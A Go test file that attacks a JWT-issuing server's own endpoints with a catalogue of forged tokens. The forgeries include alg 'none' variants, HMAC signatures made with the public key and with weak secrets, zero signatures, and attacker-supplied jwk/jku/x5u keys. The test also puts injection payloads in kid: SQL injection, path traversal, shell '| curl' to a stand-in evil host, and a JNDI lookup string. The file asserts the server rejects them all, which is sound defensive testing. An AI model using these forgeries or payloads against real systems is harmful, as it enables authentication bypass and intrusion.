package knownfailures

import (
	"crypto"
	"crypto/ecdsa"
	"crypto/elliptic"
	"crypto/hmac"
	"crypto/rand"
	_ "crypto/sha256" // for crypto.SHA256
	_ "crypto/sha512" // for crypto.SHA384 and crypto.SHA512
	"crypto/x509"
	"encoding/pem"
	"fmt"
	"net/http"
	"net/http/httptest"
	"slices"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"github.com/golang-jwt/jwt/v5"
)

// jwtDoors are all the places where an access token can be shown.
var jwtDoors = slices.Concat(bearerDoors, localDoors)

// spellings are what `alg` may look like to somebody who is not careful.
var spellings = []string{
	"none", "None", "NONE", "nOnE", "none ", " none", "no\u0000ne", "", "null",
	"HS256", "HS384", "HS512", "hs256", "es256", "Es256", "ES256 ", " ES256", "ES256\u0000", "ES256K", "ES384", "ES512",
	"RS256", "PS256", "EdDSA", "Ed25519", "dir", "A256KW", "ES256,none", "ES-256", "\uff25\uff33256",
}

// Thirty spellings of alg, over the server's own signature and over none, at
// every door: the endpoints, the command line and package verify.
func TestAttack_spellingsOfAlgAtEveryDoor(t *testing.T) {
	h := onSQLite(t)
	mine, s := h.person(), h.signing()
	administrator, _ := h.admin()
	tries := 0
	show := func(access string, doors []door) {
		genuine := open(t, access)
		for _, alg := range spellings {
			signed := s.sign(t, genuine, map[string]any{"alg": alg}, nil)
			unsigned := signed[:strings.LastIndexByte(signed, '.')+1]
			for _, raw := range []string{signed, unsigned, strings.TrimSuffix(unsigned, ".")} {
				for _, d := range doors {
					tries++
					if d.shows(h, raw) {
						t.Errorf("alg %q at %s: believed", alg, d.name)
					}
				}
			}
		}
	}
	show(mine.Field("access_token"), jwtDoors)
	show(administrator, []door{adminDoor})
	if !adminDoor.shows(h, administrator) {
		t.Errorf("the genuine token at %s after all that: refused", adminDoor.name)
	}
	t.Logf("%d spellings at %d doors: %d tries", len(spellings), len(jwtDoors)+1, tries)
	if a := h.me(mine.Field("access_token")); a.Status != http.StatusOK {
		t.Errorf("the genuine token after all that: %s", a)
	}
}

// forgery is a token that must not count. ends says that a logout may take it
// all the same, as it takes an expired token: it is the server's own.
type forgery struct {
	name, token string
	ends        bool
}

// The catalogue of a penetration test, against a server whose tokens are RS256
// and one whose tokens are ES256.
func TestAttack_forgedTokensAtEveryDoor(t *testing.T) {
	for _, alg := range []string{"ES256", "RS256"} {
		t.Run(alg, func(t *testing.T) {
			t.Parallel()
			h := onSQLite(t, "KEY_ALGORITHMS="+alg)
			var called atomic.Int64
			evil := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) {
				called.Add(1)
				w.WriteHeader(http.StatusNotFound)
			}))
			defer evil.Close()
			mine := h.person()
			access := mine.Field("access_token")
			list := forgeries(t, h, access, evil.URL)
			for _, f := range list {
				for _, d := range jwtDoors {
					// package verify knows no sessions.
					if f.ends && (d.name == logoutDoor || d.name == verifyDoor && !strings.HasPrefix(f.name, "exp")) {
						continue
					}
					if d.shows(h, f.token) {
						t.Errorf("%s at %s: believed", f.name, d.name)
					}
				}
				// It holds nothing against the genuine one.
				if d := bearerDoors[0]; !d.shows(h, access) {
					t.Fatalf("after %s the genuine token is refused", f.name)
				}
			}
			administrator, _ := h.admin()
			for _, f := range forgeries(t, h, administrator, evil.URL) {
				if adminDoor.shows(h, f.token) {
					t.Errorf("%s at %s: believed", f.name, adminDoor.name)
				}
				if !adminDoor.shows(h, administrator) {
					t.Fatalf("after %s the genuine token is refused at %s", f.name, adminDoor.name)
				}
			}
			if n := called.Load(); n > 0 {
				t.Errorf("the address in a token's header was called %d times", n)
			}
			t.Logf("%d forgeries at %d doors", len(list), len(jwtDoors)+1)
		})
	}
}

func forgeries(t *testing.T, h *house, access, evil string) []forgery {
	t.Helper()
	genuine, s := open(t, access), h.signing()
	thief := newThief(t, s.kid)
	dot := strings.LastIndexByte(access, '.')
	signed, signature := access[:dot], access[dot+1:]
	var list []forgery
	add := func(name, token string) { list = append(list, forgery{name: name, token: token}) }
	head := func(name string, value any) string { return s.sign(t, genuine, map[string]any{name: value}, nil) }
	claim := func(name string, value any) string { return s.sign(t, genuine, nil, map[string]any{name: value}) }

	add("null signature", signed+".")
	add("missing signature", signed)
	add("signature of zeros (CVE-2022-21449)", signed+"."+b64(make([]byte, 64)))
	add("broken signature", signed+"."+signature[:len(signature)-8]+"AAAAAAAA")
	add("other claims under the signature: sub", signed[:strings.IndexByte(signed, '.')]+"."+strings.Split(claim("sub", "11111111-1111-4111-8111-111111111111"), ".")[1]+"."+signature)
	add("other payload under the signature", signed[:strings.IndexByte(signed, '.')]+"."+b64(toJSON(t, changed(genuine.claims, map[string]any{"roles": []string{"admin"}})))+"."+signature)

	// The public key, nothing, and what is in every word list, as HMAC secrets.
	public := h.public()
	for name, secret := range map[string][]byte{
		"PEM": public.pem, "DER": public.der, "JWKS": public.jwks, "kid": []byte(s.kid), "blank": {}, "a zero byte": {0},
		"secret": []byte("secret"), "password": []byte("password"), "jwt": []byte("jwt"), "changeme": []byte("changeme"), "issuer": []byte(issuer),
		"your-256-bit-secret": []byte("your-256-bit-secret"), "key": []byte("key"), "admin": []byte("admin"), "123456": []byte("123456"),
	} {
		add("HS256 with the secret "+name, hmacSigned(t, genuine, map[string]any{"alg": "HS256"}, crypto.SHA256, secret))
	}
	add("HS384 with the secret PEM", hmacSigned(t, genuine, map[string]any{"alg": "HS384"}, crypto.SHA384, public.pem))
	add("HS512 with the secret PEM", hmacSigned(t, genuine, map[string]any{"alg": "HS512"}, crypto.SHA512, public.pem))
	add("HMAC under the server's own alg with the secret PEM", hmacSigned(t, genuine, nil, crypto.SHA256, public.pem))

	// A key of one's own, brought along.
	add("a thief's signature", thief.sign(t, genuine, map[string]any{"alg": "ES256"}, nil))
	for name, value := range map[string]any{
		"jwk": thief.jwk(t), "jku": evil + "/jwks.json", "x5u": evil + "/cert.pem", "x5c": []string{b64([]byte("certificate"))},
	} {
		add("inline "+name, thief.sign(t, genuine, map[string]any{"alg": "ES256", name: value}, nil))
		add("inline "+name+" without kid", thief.sign(t, genuine, map[string]any{"alg": "ES256", "kid": nil, name: value}, nil))
		add("inline "+name+" with a kid of its own", thief.sign(t, genuine, map[string]any{"alg": "ES256", "kid": "thief", name: value}, nil))
	}
	for _, kid := range []string{
		"", "x", "/dev/null", "../../../../../../dev/null", "file:///dev/null", "/proc/sys/kernel/randomize_va_space", `' UNION SELECT 'x`, `x' OR '1'='1`,
		`"; DROP TABLE keys; --`, "|sleep 10", "$(sleep 10)", "| curl " + evil, "`curl " + evil + "`", evil + "/key", "${jndi:ldap://" + evil + "}",
		"%00", s.kid + "\u0000", s.kid + " ", s.kid[:42], s.kid + "A", strings.ToLower(s.kid) + "A", strings.Repeat("k", 5000),
	} {
		add(fmt.Sprintf("kid %.40q", kid), head("kid", kid))
	}
	add("kid /dev/null with the secret blank", hmacSigned(t, genuine, map[string]any{"alg": "HS256", "kid": "/dev/null"}, crypto.SHA256, nil))
	add("kid a number", head("kid", 1))
	add("kid an object", head("kid", map[string]any{"$ne": nil}))
	add("crit", head("crit", []string{"exp"}))
	add("b64 false", s.sign(t, genuine, map[string]any{"crit": []string{"b64"}, "b64": false}, nil))

	// The server's own signature over what it would not sign.
	past, future := time.Now().Add(-time.Hour).Unix(), time.Now().Add(time.Hour).Unix()
	for name, value := range map[string]any{
		"iss": "https://evil.example.com", "aud": "https://evil.example.com", "sub": "", "client_id": nil, "jti": nil, "iat": future, "nbf": future, "exp": nil,
	} {
		add("another "+name, claim(name, value))
	}
	add("exp as text", claim("exp", "9999999999"))
	add("bound to a key", claim("cnf", map[string]any{"jkt": "x"}))
	const stranger = "11111111-1111-4111-8111-111111111111"
	return append(list,
		forgery{"exp in the past", s.sign(t, genuine, nil, map[string]any{"exp": past, "iat": past - 600, "sid": stranger}), true},
		forgery{"sub a word", claim("sub", "users"), true},
		forgery{"sub of somebody else", claim("sub", stranger), true},
		forgery{"sid of somebody else", claim("sid", stranger), true})
}

// publicKey is the public key as everybody knows it.
type publicKey struct{ der, pem, jwks []byte }

func (h *house) public() publicKey {
	h.t.Helper()
	der, err := x509.MarshalPKIXPublicKey(h.signing().key.Public())
	if err != nil {
		h.t.Fatal(err)
	}
	return publicKey{der, pem.EncodeToMemory(&pem.Block{Type: "PUBLIC KEY", Bytes: der}), h.first("GET", "/.well-known/jwks.json", nil).Body}
}

func hmacSigned(t *testing.T, from token, header map[string]any, hash crypto.Hash, secret []byte) string {
	t.Helper()
	signed := b64(toJSON(t, changed(from.header, header))) + "." + b64(toJSON(t, from.claims))
	h := hmac.New(hash.New, secret)
	h.Write([]byte(signed))
	return signed + "." + b64(h.Sum(nil))
}

// thief is a key that the server does not know, under the name of one it does.
type thief struct{ signing }

func newThief(t *testing.T, kid string) thief {
	t.Helper()
	key, err := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
	if err != nil {
		t.Fatal(err)
	}
	return thief{signing{kid, jwt.SigningMethodES256, key}}
}

func (s thief) jwk(t *testing.T) map[string]any {
	t.Helper()
	point, err := s.key.Public().(*ecdsa.PublicKey).Bytes()
	if err != nil {
		t.Fatal(err)
	}
	return map[string]any{"kty": "EC", "crv": "P-256", "kid": s.kid, "alg": "ES256", "use": "sig", "x": b64(point[1:33]), "y": b64(point[33:])}
}
